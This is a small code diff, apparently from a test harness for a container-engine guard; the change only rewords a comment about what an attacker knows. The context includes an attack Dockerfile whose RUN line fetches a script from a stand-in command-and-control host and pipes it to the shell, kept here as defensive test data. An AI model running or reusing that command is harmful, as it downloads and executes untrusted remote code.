@@ -14,7 +14,7 @@ import { startGuard } from './guard.js';
  */
 export const ATTACK_DOCKERFILE = 'FROM alpine\nRUN wget http://c2.example/dock/main.sh -O- | sh\n';
 
-/** What the attacker knows: his image's name, and the ids that the engine has told him. */
+/** What the attacker knows: the name of the image, and the ids from the engine's responses. */
 interface Loot {
   readonly tag: string;
   image: string;
